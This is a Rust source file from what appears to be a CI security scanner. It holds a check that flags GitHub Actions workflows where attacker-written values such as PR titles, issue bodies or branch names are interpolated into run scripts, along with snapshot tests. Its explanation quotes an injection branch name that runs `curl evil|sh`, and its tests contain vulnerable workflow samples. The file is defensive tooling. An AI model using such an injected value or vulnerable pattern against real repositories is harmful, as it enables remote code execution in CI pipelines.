//! Whether what strangers write is put into scripts.

use crate::check::{Check, Example, osps, ssdf};
use crate::facts::Facts;
use crate::facts::reach::{PRIVILEGED_EVENTS, foreign_in, is_foreign};
use crate::facts::workflows::{JobAt, StepAt};
use crate::judgement::{Judgement, Place, Statement, fail_as};
use bartizan_formats::ci::expression::expressions;
use bartizan_formats::ci::step::Step;
use bartizan_model::severity::SeverityLevel;

pub(super) static CHECK: Check = Check {
    id: "template-injection",
    title: "what a stranger writes is put into a script",
    spec: None,
    severity: SeverityLevel::High,
    what: "An expression in a script (`run`, or the `script` of `actions/github-script`) holds a value that whoever \
              opens a pull request or an issue writes: titles, bodies, branch names, messages. Followed through \
              variables and through the inputs of local actions. It is medium where only `pull_request` starts it, as \
              its token then can only read.",
    why: "The text becomes part of the program before the shell sees it: a branch called `x\";curl evil|sh;\"` \
              runs.",
    remedy: "Give the value to the script by a variable (`env:`), and use it in quotes: `\"$TITLE\"`.",
    example: Example {
        file: ".github/workflows/tests.yml",
        passing: "      - run: echo \"$TITLE\"\n",
        failing: "      - run: echo \"${{ github.event.pull_request.title }}\"\n",
        overlaps: &[],
    },
    supports: &[osps("OSPS-BR-01.01"), ssdf("PW.5.1")],
    judge,
};

fn judge(facts: &Facts) -> Judgement {
    if facts.workflows.is_empty() && facts.actions.is_empty() {
        return Judgement::not_applicable("there is no workflow");
    }
    let mut statements: Vec<Statement> = Vec::new();
    for at in facts.jobs() {
        let events: Vec<String> = facts
            .starts(at.file)
            .iter()
            .map(|it| it.trigger.event.clone())
            .collect();
        for step in facts.steps(&at) {
            let found = sinks(step.step)
                .into_iter()
                .filter_map(|(text, line)| injected(facts, &at, &step, text, line));
            let severity = severity(&events);
            let new = found.map(|(message, places)| fail_as(severity, message, places));
            for statement in new {
                if !statements.iter().any(|it| it.places == statement.places) {
                    statements.push(statement);
                }
            }
        }
    }
    Judgement::of(
        statements,
        "nothing that strangers write is put into a script",
    )
}

/// The scripts of a step, each with its first line.
fn sinks(step: &Step) -> Vec<(&str, u32)> {
    let run = step.run.iter().map(|it| (it.value.as_str(), it.line));
    let inputs = if step.is("actions/github-script") {
        step.input("script")
    } else {
        None
    };
    run.chain(inputs.map(|it| (it.text.as_str(), it.line)))
        .collect()
}

fn severity(events: &[String]) -> SeverityLevel {
    let is_harmless = |event: &String| {
        matches!(
            event.as_str(),
            "pull_request" | "pull_request_review" | "pull_request_review_comment"
        )
    };
    let can_be_written =
        |event: &&String| PRIVILEGED_EVENTS.contains(&event.as_str()) || event.as_str() == "push";
    match events.iter().find(can_be_written) {
        None if events.iter().any(is_harmless) => SeverityLevel::Medium,
        _ => SeverityLevel::High,
    }
}

/// Whether a script holds a foreign value, itself, through a variable, or through an input of the action around it.
fn injected(
    facts: &Facts,
    at: &JobAt<'_>,
    step: &StepAt<'_>,
    text: &str,
    line: u32,
) -> Option<(String, Vec<Place>)> {
    for expression in expressions(text) {
        let here = step.place(line.saturating_add(expression.offset));
        for path in expression.paths() {
            if is_foreign(&path) {
                return Some((
                    format!("a script holds `{path}`, which a stranger writes"),
                    vec![here],
                ));
            }
            if let Some(name) = path.strip_prefix("env.") {
                let all = [&step.step.env, &at.job.env, &at.file.workflow.env];
                let given = all
                    .iter()
                    .find_map(|all| all.iter().find(|it| it.name.eq_ignore_ascii_case(name)));
                if let Some((given, (foreign, _))) =
                    given.and_then(|it| Some((it, foreign_in(&it.text)?)))
                {
                    let file = if step.step.env.contains(given) {
                        step.file
                    } else {
                        &at.file.path
                    };
                    let message = format!(
                        "a script holds `{path}`, which is `{foreign}`, which a stranger writes"
                    );
                    return Some((message, vec![here, Place::line(file, given.line)]));
                }
            }
            let input = path
                .strip_prefix("inputs.")
                .and_then(|name| given(facts, at, step, name));
            if let Some((foreign, place)) = input {
                let message = format!(
                    "a script holds `{path}`, which is given `{foreign}`, which a stranger writes"
                );
                return Some((message, vec![here, place]));
            }
        }
    }
    None
}

/// The foreign value that an input is given: of the action that a step is part of, or of the called workflow.
fn given(facts: &Facts, at: &JobAt<'_>, step: &StepAt<'_>, name: &str) -> Option<(String, Place)> {
    if let Some((file, input)) = step.given(name) {
        let (foreign, offset) = foreign_in(&input.text)?;
        return Some((
            foreign,
            Place::line(file, input.line.saturating_add(offset)),
        ));
    }
    if step.caller.is_some() {
        return None;
    }
    facts.callers(&at.file.path).find_map(|caller| {
        let input = caller
            .job
            .with
            .iter()
            .find(|it| it.name.eq_ignore_ascii_case(name))?;
        let (foreign, offset) = foreign_in(&input.text)?;
        Some((foreign, caller.place(input.line.saturating_add(offset))))
    })
}

#[cfg(test)]
mod tests {
    use crate::laboratory::{of_workflow, only, told};

    #[test]
    fn values_are_followed_into_scripts() {
        let check = |on: &str, step: &str| {
            of_workflow(
                "template-injection",
                &format!(
                    "on: {on}\njobs:\n  a:\n    env: {{B: '${{{{ github.head_ref }}}}'}}\n    steps:\n      - {step}\n"
                ),
            )
        };
        insta::assert_snapshot!(check("issues", "run: echo ${{ github.event.issue.title }}"), @"fail (high): a script holds `github.event.issue.title`, which a stranger writes [w.yml:6]");
        insta::assert_snapshot!(check("pull_request", "run: |\n          ls\n          echo ${{ github.head_ref }}"), @"fail (medium): a script holds `github.head_ref`, which a stranger writes [w.yml:8]");
        insta::assert_snapshot!(check("[push, pull_request]", "run: echo ${{ env.B }}"), @"fail (high): a script holds `env.b`, which is `github.head_ref`, which a stranger writes [w.yml:6 w.yml:4]");
        insta::assert_snapshot!(check("pull_request_target", "{uses: actions/github-script@v7, with: {script: 'x(`${{ github.event.pull_request.body }}`)'}}"), @"fail (high): a script holds `github.event.pull_request.body`, which a stranger writes [w.yml:6]");
        insta::assert_snapshot!(check("issues", "run: echo ${{ github.sha }} $B"), @"pass: nothing that strangers write is put into a script []");
    }

    #[test]
    fn inputs_of_actions_and_workflows_are_followed() {
        let action =
            "runs:\n  using: composite\n  steps:\n    - run: git switch ${{ inputs.branch }}\n";
        let caller = "on: pull_request_target\njobs:\n  a:\n    steps:\n      - uses: ./act\n        with: {branch: '${{ github.head_ref }}'}\n";
        insta::assert_snapshot!(told("template-injection", &only(&[("act/action.yml", action), (".github/workflows/c.yml", caller)])), @"fail (high): a script holds `inputs.branch`, which is given `github.head_ref`, which a stranger writes [act/action.yml:4 c.yml:6]");
        let reusable = "on: workflow_call\njobs: {a: {steps: [{run: 'x ${{ inputs.t }}'}]}}\n";
        let caller = "on: issues\njobs:\n  b:\n    uses: ./.github/workflows/p.yml\n    with:\n      t: ${{ github.event.issue.title }}\n";
        insta::assert_snapshot!(told("template-injection", &only(&[(".github/workflows/p.yml", reusable), (".github/workflows/c.yml", caller)])), @"fail (high): a script holds `inputs.t`, which is given `github.event.issue.title`, which a stranger writes [p.yml:2 c.yml:6]");
    }
}
